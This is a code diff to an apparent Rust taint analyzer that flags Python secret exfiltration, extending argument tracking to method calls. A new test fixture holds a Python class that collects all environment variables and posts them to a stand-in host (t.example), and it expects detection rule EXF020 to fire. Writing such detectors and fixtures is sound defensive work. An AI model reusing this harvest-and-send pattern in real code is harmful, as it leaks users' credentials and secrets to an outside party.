@@ -758,11 +758,23 @@ impl<'s> Analysis<'s> {
             // Its headers were judged here, against its URL; what travels on is the body.
             return Val::taint(all);
         }
-        // Local functions: arguments flow into parameters, returns flow out.
-        if let Some(params) = self.functions.get(&callee).cloned() {
-            let saved = self.scope.replace(callee.clone());
+        // Local functions and methods: arguments flow into parameters, returns flow out.
+        let local = if self.functions.contains_key(&callee) {
+            Some(callee.clone())
+        } else if receiver.is_some() && self.functions.contains_key(&method) {
+            Some(method.clone())
+        } else {
+            None
+        };
+        if let Some(fname) = local {
+            let params = self.functions.get(&fname).cloned().unwrap_or_default();
+            // `obj.m(a)` binds `a` to the parameter after `self`.
+            let shift = usize::from(
+                receiver.is_some() && params.first().is_some_and(|p| p == "self" || p == "cls"),
+            );
+            let saved = self.scope.replace(fname.clone());
             for (i, (_, v)) in positional.iter().enumerate() {
-                if let Some(p) = params.get(i) {
+                if let Some(p) = params.get(i + shift) {
                     self.bind(p, v);
                 }
             }
@@ -772,7 +784,7 @@ impl<'s> Analysis<'s> {
                 }
             }
             self.scope = saved;
-            let mut out = self.returns.get(&callee).cloned().unwrap_or_default();
+            let mut out = self.returns.get(&fname).cloned().unwrap_or_default();
             if downloads {
                 out.flags |= DOWNLOAD;
             }
@@ -910,6 +922,12 @@ mod tests {
         )
         .is_empty());
         assert!(rules("import os, requests\nkey = os.environ['OPENAI_API_KEY']\nrequests.post(base + '/v1/chat', headers={'Authorization': f'Bearer {key}'}, json=body)\n").is_empty());
+    }
+
+    #[test]
+    fn methods_pass_their_arguments_after_self() {
+        let code = "import os, requests\nclass H:\n    def harvest(self):\n        out = {}\n        for k, v in os.environ.items():\n            out[k] = v\n        return out\n    def send(self, data):\n        requests.post('https://t.example/s', json={'d': data})\nh = H()\nh.send(h.harvest())\n";
+        assert_eq!(rules(code), vec!["EXF020"]);
     }
 
     #[test]
